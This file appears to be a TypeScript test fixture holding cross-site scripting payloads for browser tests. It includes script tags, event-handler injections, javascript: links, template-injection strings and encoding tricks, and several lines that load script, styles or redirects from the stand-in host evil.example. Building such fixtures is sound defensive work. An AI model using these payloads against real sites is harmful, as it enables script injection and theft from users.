const evil = 'https://evil.example'
/** Input of an attacker who tries to inject markup or script. If it succeeds, it requests `evil` or opens a dialog. */
export const hostileStrings = [
  '<script>alert(1)</script>',
  `<script src="${evil}/x.js"></script>`,
  '"><img src=x onerror=alert(1)>',
  `'"><img src=${evil}/x.png>`,
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  `<iframe src="${evil}"></iframe>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<a href="javascript:alert(1)">press me</a>',
  '<a href=" &#106;avascript:alert(1)">press me</a>',
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<style>@import "${evil}/x.css"; body{display:none}</style>`,
  `<div style="background:url(${evil}/x.png)">x</div>`,
  `<base href="${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<form action="${evil}"><button>press me</button></form>`,
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  `{{constructor.constructor("alert(1)")()}} $\{alert(1)}`,
  `[x](javascript:alert(1)) ![x](${evil}/x.png)`,
  '<img src=x onerror\u0000=alert(1)> <scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202e<script>alert(1)</script>\u202c',
]

const elements = [
  '<img src=x',
  '<svg',
  '<body',
  '<video src=x',
  '<audio src=x',
  '<details open',
  '<marquee',
  '<input autofocus',
  '<select autofocus',
  '<iframe',
  '<object data=x',
  '<div style=animation-name:x',
]
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onanimationstart']

/** The same attack with every handler on every element, for journeys that have time for so many. */
export const hostileElements = elements.flatMap((element) =>
  handlers.map((handler) => `"'>${element} ${handler}=alert(1)>`),
)

/** Several per text, as many as fit into `max` characters, where every text requires a page load. */
export function packed(texts: string[], max: number): string[] {
  const packs: string[] = []
  for (const text of texts.filter(({ length }) => length <= max)) {
    const last = packs.at(-1)
    if (last !== undefined && last.length + 1 + text.length <= max) packs[packs.length - 1] = `${last} ${text}`
    else packs.push(text)
  }
  return packs
}
